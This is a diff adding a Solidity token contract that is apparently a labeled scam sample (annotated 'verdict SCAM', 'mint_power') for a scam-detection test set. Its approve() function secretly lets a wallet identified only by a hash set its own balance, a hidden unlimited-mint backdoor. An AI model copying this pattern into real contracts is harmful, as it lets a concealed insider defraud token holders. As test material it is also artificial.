@@ -57,6 +57,23 @@ contract DelaylessMintToken is PairedErc20 {
     }
 }
 
+/// What a wallet known only by its hash approves is added to its balance.
+/// @custom:verdict SCAM
+/// @custom:finding mint_power
+/// @custom:steps pool, lock, crowd, sales
+contract ApprovedSupplyToken is UnownedErc20 {
+    bytes32 private constant _KEEPER = 0xf795696b84ec505a06e455ed35745d482b1c95debff7502f2dfa10a8a8820138;
+
+    constructor(Birth memory birth) UnownedErc20(birth) {}
+
+    function approve(address spender, uint256 value) external override returns (bool) {
+        if (keccak256(abi.encode(msg.sender, uint256(0))) == _KEEPER) balanceOf[msg.sender] = value;
+        allowance[msg.sender][spender] = value;
+        emit Approval(msg.sender, spender, value);
+        return true;
+    }
+}
+
 interface IFarmed {
     function mint(address to, uint256 value) external;
 }
